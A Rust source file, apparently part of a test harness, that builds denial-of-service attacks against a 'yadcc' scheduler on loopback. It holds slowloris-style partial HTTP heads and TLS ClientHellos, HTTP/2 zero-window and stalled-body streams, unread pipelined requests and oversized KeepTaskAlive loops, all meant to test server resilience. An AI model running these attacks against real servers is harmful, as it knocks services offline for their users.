//! The attacks of the table, as a client on the loopback would
//! make them, with no token (`GetRunningTasks` is open, as in the original).
//! Each runs until its task is aborted, holding every connection open.

use std::{convert::Infallible, net::SocketAddr, sync::Arc};

use axum::body::Body;
use bytes::Bytes;
use futures_util::StreamExt;
use http::Request;
use hyper::client::conn::http2::SendRequest;
use hyper_util::rt::{TokioExecutor, TokioIo};
use prost::Message;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    sync::oneshot,
    task::JoinSet,
};
use yadcc_pb as pb;
use yadcc_sim::{
    client::{SerialConn, connect},
    wire::Wire,
};

use crate::{
    cluster::{ATTACKER, ip},
    support::{Method, SERVICE, USER_TOKEN, daemon_request, flare_request_uncompressed},
};

#[derive(Debug, Clone, Copy)]
pub enum Attack {
    /// 4 flare connections send 2,000 `GetRunningTasks` each and never read.
    FlareUnread,
    /// 2 daemon `http+pb` connections pipeline 3,000 each and never read.
    HttpPbUnread,
    /// 2 HTTP/2 connections with an initial window of 0, 200 gRPC
    /// `GetRunningTasks` streams each.
    Http2ZeroWindow,
    /// 20 HTTP/2 connections of 200 streams, each body 62,000 bytes, then
    /// stalled.
    Http2StalledBodies,
    /// 20 flare connections, each sending `KeepTaskAlive` with 65,536 ids
    /// and a valid user token, again as soon as answered.
    HugeKeepAlives,
    /// Connections from six addresses (issue 45), each holding an h2c
    /// preface and SETTINGS, reopened when closed.
    H2Prefaces,
    /// The same, each holding a partial 64 KB HTTP head.
    PartialHeads,
    /// The same, each holding a partial 64 KB TLS ClientHello (against a
    /// scheduler with TLS on).
    PartialTlsHellos,
}

/// The six addresses of issue 45's connection attacks.
const SIX_ADDRESSES: [&str; 6] = [
    ATTACKER,
    "127.0.0.3",
    "127.0.0.4",
    "127.0.0.10",
    "127.0.0.11",
    "127.0.0.12",
];

/// Connections of issue 45's connection attacks: 19,000 (the probe
/// held 19,800) or what the descriptor limit leaves, unless
/// `YADCC_MEMORY_CONNECTIONS` says otherwise.
pub fn held_connections() -> usize {
    let soft = rlimit::Resource::NOFILE
        .get()
        .map_or(1024, |(soft, _hard)| soft);
    let default = 19_000.min(soft.saturating_sub(1_000));
    crate::env_number("YADCC_MEMORY_CONNECTIONS", default) as usize
}

/// An HTTP/2 client preface and an empty SETTINGS frame.
const H2_PREFACE_AND_SETTINGS: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// A 64 KB HTTP head without its end.
pub fn partial_head() -> Vec<u8> {
    let mut head =
        b"POST /rpc/yadcc.scheduler.SchedulerService/Heartbeat HTTP/1.1\r\nX-Pad: ".to_vec();
    head.resize(64_000, b'a');
    head
}

/// A TLS ClientHello announced as 65,000 bytes (under rustls' 64 KiB bound
/// on a handshake message, so it is buffered, not refused at once), of
/// which 64,000 arrive in four records and the rest never does.
pub fn partial_client_hello() -> Vec<u8> {
    const ANNOUNCED: usize = 65_000;
    const SENT: usize = 64_000;
    let mut handshake = vec![0x01];
    handshake.extend_from_slice(&(ANNOUNCED as u32).to_be_bytes()[1..]);
    handshake.resize(SENT, 0x42);
    let mut records = Vec::new();
    for fragment in handshake.chunks(16_000) {
        records.extend_from_slice(&[0x16, 0x03, 0x01]);
        records.extend_from_slice(&(fragment.len() as u16).to_be_bytes());
        records.extend_from_slice(fragment);
    }
    records
}

impl Attack {
    pub fn label(self) -> &'static str {
        match self {
            Attack::FlareUnread => "4 flare connections x 2,000 GetRunningTasks, never read",
            Attack::HttpPbUnread => "2 http+pb connections x 3,000 pipelined, never read",
            Attack::Http2ZeroWindow => "2 HTTP/2 connections, window 0, 200 gRPC streams each",
            Attack::Http2StalledBodies => {
                "20 HTTP/2 connections x 200 streams, 62,000-byte bodies stalled"
            }
            Attack::HugeKeepAlives => "20 flare connections x KeepTaskAlive of 65,536 ids, looped",
            Attack::H2Prefaces => "connections from 6 addresses, each an h2c preface, reopened",
            Attack::PartialHeads => {
                "connections from 6 addresses, each a partial 64 KB head, reopened"
            }
            Attack::PartialTlsHellos => {
                "connections from 6 addresses, each a partial 64 KB TLS ClientHello, reopened"
            }
        }
    }

    /// What the scheduler under attack needs on its command line, and the
    /// directory of its TLS files to remove afterwards. A partial head or
    /// handshake gets the header-read timeout of 30 s, so that what bounds
    /// them is the connection buffers' budget, not the timeout.
    pub fn server_flags(self) -> (Option<std::path::PathBuf>, Vec<String>) {
        match self {
            Attack::PartialHeads => (None, vec!["--header_read_timeout=30s".to_owned()]),
            Attack::PartialTlsHellos => {
                let (dir, flags) = crate::strangers::tls_files("held-connections");
                (Some(dir), flags)
            }
            _ => (None, Vec::new()),
        }
    }

    /// Starts attacking the scheduler at `addr` from a thread and runtime of
    /// its own, so the attacker's work never delays the legitimate client's.
    pub fn start(self, addr: SocketAddr) -> Attacking {
        let (stop, stopped) = oneshot::channel::<()>();
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .expect("the attacker's runtime");
            runtime.block_on(async move {
                tokio::select! {
                    () = self.run(addr) => {}
                    _ = stopped => {}
                }
            });
            // Dropping the runtime drops every task and connection.
        });
        Attacking { stop, thread }
    }

    /// Attacks the scheduler at `addr` until dropped.
    async fn run(self, addr: SocketAddr) {
        let mut held = JoinSet::new();
        match self {
            Attack::FlareUnread => {
                let calls: Vec<u8> = (0..2000)
                    .flat_map(|id| {
                        flare_request_uncompressed(id, Method::GetRunningTasks, 10_000, &[])
                    })
                    .collect();
                unread(&mut held, addr, 4, calls);
            }
            Attack::HttpPbUnread => {
                let calls: Vec<u8> = (0..3000)
                    .flat_map(|seq_no| daemon_request(Method::GetRunningTasks, seq_no, &[], None))
                    .collect();
                unread(&mut held, addr, 2, calls);
            }
            Attack::Http2ZeroWindow => {
                for _ in 0..2 {
                    let sender = http2(&mut held, addr, Some(0)).await;
                    for _ in 0..200 {
                        let request = grpc("GetRunningTasks", Body::from(framed(&[])));
                        hold_answer(&mut held, sender.clone(), request);
                    }
                }
            }
            Attack::Http2StalledBodies => {
                for _ in 0..20 {
                    let sender = http2(&mut held, addr, None).await;
                    for _ in 0..200 {
                        // A message announced larger than what is sent.
                        let mut first = vec![0u8; 62_000];
                        first[1..5].copy_from_slice(&100_000u32.to_be_bytes());
                        let body = futures_util::stream::once(async move {
                            Ok::<_, Infallible>(Bytes::from(first))
                        })
                        .chain(futures_util::stream::pending());
                        let request = grpc("Heartbeat", Body::from_stream(body));
                        hold_answer(&mut held, sender.clone(), request);
                    }
                }
            }
            Attack::HugeKeepAlives => {
                let request = pb::KeepTaskAliveRequest {
                    token: USER_TOKEN.into(),
                    task_grant_ids: (1..=65_536).collect(),
                    next_keep_alive_in_ms: 10_000,
                }
                .encode_to_vec();
                let call = flare_request_uncompressed(1, Method::KeepTaskAlive, 10_000, &request);
                for _ in 0..20 {
                    let call = call.clone();
                    held.spawn(async move {
                        let mut connection =
                            SerialConn::connect(Some(ip(ATTACKER)), addr, Wire::Flare)
                                .await
                                .expect("connect");
                        while connection.exchange(&call).await.is_ok() {}
                    });
                }
            }
            Attack::H2Prefaces | Attack::PartialHeads | Attack::PartialTlsHellos => {
                let bytes: Arc<[u8]> = match self {
                    Attack::PartialHeads => partial_head().into(),
                    Attack::PartialTlsHellos => partial_client_hello().into(),
                    _ => H2_PREFACE_AND_SETTINGS.into(),
                };
                for index in 0..held_connections() {
                    let from = SIX_ADDRESSES[index % SIX_ADDRESSES.len()];
                    held.spawn(hold_reopened(addr, from, Arc::clone(&bytes)));
                }
            }
        }
        // Everything stays open until the attack is dropped (dropping
        // `held` aborts its tasks and closes their connections).
        std::future::pending::<()>().await;
        drop(held);
    }
}

/// An attack under way.
pub struct Attacking {
    stop: oneshot::Sender<()>,
    thread: std::thread::JoinHandle<()>,
}

impl Attacking {
    /// Ends the attack: every attacking connection is closed.
    pub fn stop(self) {
        let _ = self.stop.send(());
        self.thread.join().expect("the attacker's thread");
    }
}

/// A connection from `from` that writes `bytes` and holds on until the
/// server closes it, then opens another, for good.
async fn hold_reopened(addr: SocketAddr, from: &'static str, bytes: Arc<[u8]>) {
    loop {
        if let Ok(mut stream) = connect(Some(ip(from)), addr).await
            && stream.write_all(&bytes).await.is_ok()
        {
            let mut sink = [0u8; 1024];
            while matches!(stream.read(&mut sink).await, Ok(read) if read > 0) {}
        }
        // Reopened at once, but not in a loop that takes a core of its own.
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
}

/// `connections` connections that each write `calls` and never read.
fn unread(held: &mut JoinSet<()>, addr: SocketAddr, connections: usize, calls: Vec<u8>) {
    for _ in 0..connections {
        let calls = calls.clone();
        held.spawn(async move {
            let mut stream = connect(Some(ip(ATTACKER)), addr).await.expect("connect");
            // Blocks once the server stops reading: the connection stays
            // open either way.
            let _ = stream.write_all(&calls).await;
            std::future::pending::<()>().await;
            drop(stream);
        });
    }
}

/// An h2c connection from the attacker's address; `window`: its initial
/// stream window (0: the server may send no body byte).
pub async fn http2(
    held: &mut JoinSet<()>,
    addr: SocketAddr,
    window: Option<u32>,
) -> SendRequest<Body> {
    http2_from(held, ATTACKER, addr, window).await
}

/// An h2c connection from `local`, driven by a task in `held`.
pub async fn http2_from(
    held: &mut JoinSet<()>,
    local: &str,
    addr: SocketAddr,
    window: Option<u32>,
) -> SendRequest<Body> {
    let stream = connect(Some(ip(local)), addr).await.expect("connect");
    let mut builder = hyper::client::conn::http2::Builder::new(TokioExecutor::new());
    if let Some(window) = window {
        builder.initial_stream_window_size(window);
    }
    let (sender, connection) = builder
        .handshake(TokioIo::new(stream))
        .await
        .expect("h2c handshake");
    held.spawn(async move {
        let _ = connection.await;
    });
    sender
}

/// A gRPC call of `method` with `body`.
pub fn grpc(method: &str, body: Body) -> Request<Body> {
    Request::post(format!("http://scheduler/{SERVICE}/{method}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(body)
        .expect("a request")
}

/// A gRPC message frame.
pub fn framed(message: &[u8]) -> Bytes {
    let mut frame = vec![0];
    frame.extend((message.len() as u32).to_be_bytes());
    frame.extend_from_slice(message);
    Bytes::from(frame)
}

/// Sends `request` and keeps its answer unread.
fn hold_answer(held: &mut JoinSet<()>, mut sender: SendRequest<Body>, request: Request<Body>) {
    held.spawn(async move {
        let answer = sender.send_request(request).await;
        std::future::pending::<()>().await;
        drop(answer);
    });
}
